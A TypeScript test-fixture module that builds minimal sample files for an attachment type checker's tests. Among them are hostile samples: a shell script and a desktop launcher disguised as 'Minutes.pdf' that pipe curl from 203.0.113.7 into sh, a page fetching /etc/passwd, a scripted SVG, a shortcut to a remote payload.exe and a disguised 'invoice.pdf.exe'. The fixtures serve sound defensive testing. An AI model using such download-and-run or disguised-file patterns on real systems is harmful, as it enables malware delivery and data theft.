import { strToU8, zipSync, type Zippable } from 'fflate';

/**
 * The smallest real files of each type the attachment checks know, built byte by byte as the
 * formats define them, for the unit and browser tests: what a colleague would attach, and what an
 * attacker would send instead.
 */

const bytesOf = (...parts: (string | number[] | Uint8Array)[]): Uint8Array =>
  concat(parts.map((part) => (typeof part === 'string' ? strToU8(part) : new Uint8Array(part))));

function concat(parts: Uint8Array[]): Uint8Array {
  const result = new Uint8Array(parts.reduce((total, part) => total + part.byteLength, 0));
  let at = 0;
  for (const part of parts) {
    result.set(part, at);
    at += part.byteLength;
  }
  return result;
}

const base64 = (text: string) => new Uint8Array(Buffer.from(text, 'base64'));

/** A one-page PDF with a text line; the cross-reference offsets are not checked by any reader here. */
export const PDF = bytesOf(
  '%PDF-1.4\n%\u00e2\u00e3\n',
  '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n',
  '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n',
  '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj\n',
  'trailer << /Root 1 0 R >>\n%%EOF\n',
);

export const PNG = base64(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
);
export const GIF = base64('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7');
/** JFIF: start of image, an APP0 segment, end of image. */
export const JPEG = bytesOf(
  [0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10],
  'JFIF',
  [0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0xff, 0xd9],
);
/** Little-endian TIFF whose first directory (at offset 8) is empty. */
export const TIFF = bytesOf('II', [0x2a, 0x00, 0x08, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
export const RTF = bytesOf('{\\rtf1\\ansi\\deff0 Protocol of the 107th session\\par}');

export const TEXT = bytesOf('Görüşün protokolu — Протокол встречи, 5 December 2016\r\n');
export const CSV = bytesOf('Partner;Country\r\nIOM;Azerbaijan\r\nMZ;Mozambique\r\n');
/** "Партнёр;Страна" in Windows-1251, as older Excel saves CSV: not UTF-8, still text. */
export const CSV_1251 = bytesOf(
  [0xcf, 0xe0, 0xf0, 0xf2, 0xed, 0xb8, 0xf0, 0x3b, 0xd1, 0xf2, 0xf0, 0xe0, 0xed, 0xe0],
  '\r\n',
);
/** Text in UTF-16 with its byte-order mark, as Excel's "Unicode text" is saved. */
export const TEXT_UTF16 = new Uint8Array(Buffer.from('\ufeffUnicode notes\r\n', 'utf16le'));
export const EML = bytesOf(
  'From: secretariat@example.org\r\nSubject: Minutes\r\nMIME-Version: 1.0\r\n',
  'Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>Minutes attached.</p></body></html>\r\n',
);

/** A PE program: a DOS header whose e_lfanew points at the "PE\0\0" signature. */
export const WINDOWS_PROGRAM = concat([
  bytesOf('MZ', [0x90, 0x00, 0x03], new Array<number>(55).fill(0), [0x40, 0, 0, 0]),
  bytesOf('PE', [0, 0, 0x4c, 0x01, 0x01, 0x00], new Array<number>(64).fill(0)),
]);
export const LINUX_PROGRAM = bytesOf([0x7f], 'ELF', [2, 1, 1, 0], new Array<number>(56).fill(0));
export const MAC_PROGRAM = bytesOf(
  [0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1],
  new Array<number>(24).fill(0),
);
/** A Windows shortcut (.lnk): the ShellLinkHeader's size and CLSID, then the rest of the header. */
export const WINDOWS_SHORTCUT = bytesOf(
  [0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46],
  new Array<number>(56).fill(0),
);
export const SHELL_SCRIPT = bytesOf('#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n');
export const WEB_PAGE = bytesOf(
  '<!DOCTYPE html>\n<html><body><script>fetch("file:///etc/passwd")</script></body></html>\n',
);
export const SVG_WITH_SCRIPT = bytesOf(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
);
export const INTERNET_SHORTCUT = bytesOf(
  '[InternetShortcut]\r\nURL=file://203.0.113.7/share/payload.exe\r\n',
);
export const DESKTOP_LAUNCHER = bytesOf(
  '[Desktop Entry]\nType=Application\nName=Minutes.pdf\nExec=sh -c "curl http://203.0.113.7 | sh"\n',
);

// ---------------------------------------------------------------- zip-based: OOXML, OpenDocument

const CONTENT_TYPES = (main: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${main}"/></Types>`;

/** An OOXML package: content types, the package relationships and the main part (and extras). */
export function officeOpenXml(
  main: 'word/document.xml' | 'xl/workbook.xml' | 'ppt/presentation.xml',
  extra: Zippable = {},
): Uint8Array {
  return zipSync({
    '[Content_Types].xml': strToU8(CONTENT_TYPES(main)),
    '_rels/.rels': strToU8(
      `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Target="${main}"/></Relationships>`,
    ),
    [main]: strToU8('<?xml version="1.0"?><document/>'),
    ...extra,
  });
}

export const DOCX = officeOpenXml('word/document.xml');
export const XLSX = officeOpenXml('xl/workbook.xml');
export const PPTX = officeOpenXml('ppt/presentation.xml');
/** A .docm: the same package with a VBA project. */
export const DOCX_WITH_MACROS = officeOpenXml('word/document.xml', {
  'word/vbaProject.bin': new Uint8Array([0xcc, 0x61, 0xff, 0xff]),
});
/** An Excel 4.0 macro sheet, the macros that need no VBA project. */
export const XLSX_WITH_MACRO_SHEET = officeOpenXml('xl/workbook.xml', {
  'xl/macrosheets/sheet1.xml': strToU8('<xm:macrosheet/>'),
});

/** An OpenDocument package: `mimetype` first and stored, as the standard requires. */
export function openDocument(mimetype: string, extra: Zippable = {}): Uint8Array {
  return zipSync({
    mimetype: [strToU8(mimetype), { level: 0 }],
    'content.xml': strToU8('<?xml version="1.0"?><office:document-content/>'),
    'META-INF/manifest.xml': strToU8('<?xml version="1.0"?><manifest:manifest/>'),
    ...extra,
  });
}

export const ODT = openDocument('application/vnd.oasis.opendocument.text');
export const ODS = openDocument('application/vnd.oasis.opendocument.spreadsheet');
export const ODP = openDocument('application/vnd.oasis.opendocument.presentation');
export const ODT_WITH_MACROS = openDocument('application/vnd.oasis.opendocument.text', {
  'Basic/Standard/Module1.xml': strToU8('<script:module/>'),
});
export const ZIP_ARCHIVE = zipSync({ 'invoice.pdf.exe': WINDOWS_PROGRAM });

// ---------------------------------------------------------------- OLE compound files

const FREE_SECTOR = 0xffffffff;
const END_OF_CHAIN = 0xfffffffe;
const FAT_SECTOR = 0xfffffffd;
const NO_STREAM = 0xffffffff;

/**
 * An OLE compound file (MS-CFB, version 3, 512-byte sectors): one FAT sector, then the directory,
 * whose root holds `streams` and `storages` as a chain of right siblings. Only the directory is
 * there: the streams are empty, which is all a type check reads.
 */
export function compoundFile(options: {
  streams?: string[];
  storages?: string[];
  rootClassId?: number[];
}): Uint8Array {
  const children = [
    ...(options.streams ?? []).map((name) => ({ name, type: 2 })),
    ...(options.storages ?? []).map((name) => ({ name, type: 1 })),
  ];
  const entries = [{ name: 'Root Entry', type: 5 }, ...children];
  const directorySectors = Math.ceil(entries.length / 4);
  const bytes = new Uint8Array(512 * (2 + directorySectors));
  const data = new DataView(bytes.buffer);
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  data.setUint16(0x18, 0x3e, true);
  data.setUint16(0x1a, 3, true);
  data.setUint16(0x1c, 0xfffe, true);
  data.setUint16(0x1e, 9, true);
  data.setUint16(0x20, 6, true);
  data.setUint32(0x2c, 1, true);
  data.setUint32(0x30, 1, true);
  data.setUint32(0x38, 4096, true);
  data.setUint32(0x3c, END_OF_CHAIN, true);
  data.setUint32(0x44, END_OF_CHAIN, true);
  for (let index = 0; index < 109; index += 1) {
    data.setUint32(0x4c + index * 4, index === 0 ? 0 : FREE_SECTOR, true);
  }
  // The FAT (sector 0): itself, then the directory's chain.
  for (let sector = 0; sector < 128; sector += 1) {
    let next = FREE_SECTOR;
    if (sector === 0) next = FAT_SECTOR;
    else if (sector < directorySectors) next = sector + 1;
    else if (sector === directorySectors) next = END_OF_CHAIN;
    data.setUint32(512 + sector * 4, next, true);
  }
  for (let index = 0; index < directorySectors * 4; index += 1) {
    const at = 1024 + index * 128;
    data.setUint32(at + 0x44, NO_STREAM, true);
    data.setUint32(at + 0x48, NO_STREAM, true);
    data.setUint32(at + 0x4c, NO_STREAM, true);
    const entry = entries[index];
    if (!entry) continue;
    bytes.set(Buffer.from(entry.name, 'utf16le'), at);
    data.setUint16(at + 0x40, (entry.name.length + 1) * 2, true);
    data.setUint8(at + 0x42, entry.type);
    data.setUint8(at + 0x43, 1);
    if (index === 0) {
      if (children.length > 0) data.setUint32(at + 0x4c, 1, true);
      bytes.set(options.rootClassId ?? new Array<number>(16).fill(0), at + 0x50);
    } else if (index + 1 < entries.length) {
      data.setUint32(at + 0x48, index + 1, true);
    }
  }
  return bytes;
}

export const DOC = compoundFile({
  streams: ['WordDocument', '1Table', '\u0005SummaryInformation'],
});
export const DOC_WITH_MACROS = compoundFile({
  streams: ['WordDocument', '1Table'],
  storages: ['Macros'],
});
export const XLS = compoundFile({ streams: ['Workbook', '\u0005SummaryInformation'] });
export const PPT = compoundFile({ streams: ['PowerPoint Document', 'Current User'] });
export const MSG = compoundFile({
  streams: ['__properties_version1.0', '__substg1.0_0037001F', '__substg1.0_1000001F'],
  storages: ['__recip_version1.0_#00000000'],
});
/** A Windows Installer package: its root storage carries the MSI class id {000C1084-…-46}. */
export const MSI = compoundFile({
  streams: ['\u4840\u3f3f\u4577'],
  rootClassId: [0x84, 0x10, 0x0c, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46],
});
